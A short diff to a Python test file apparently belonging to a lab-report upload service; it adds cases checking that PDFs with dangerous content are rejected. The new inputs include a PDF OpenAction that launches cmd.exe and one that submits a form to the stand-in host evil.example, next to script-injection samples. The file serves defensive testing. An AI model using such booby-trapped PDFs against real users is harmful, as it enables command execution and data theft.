@@ -70,6 +70,8 @@ def test_a_report_is_stored_privately_under_a_random_name(roots, lab, sample):
     ("content", "message"),
     [
         (pdf_bytes(javascript="app.alert(1)"), "scripts"),
+        (pdf_bytes(open_action={"/S": "/Launch", "/F": "cmd.exe"}), "launch"),
+        (pdf_bytes(open_action={"/S": "/SubmitForm", "/F": "https://evil.example/"}), "form-submission"),
         (PNG_BYTES, "Only PDF"),
         (b"%PDF-1.7\n<html><script>alert(1)</script></html>", "cannot be read"),
     ],
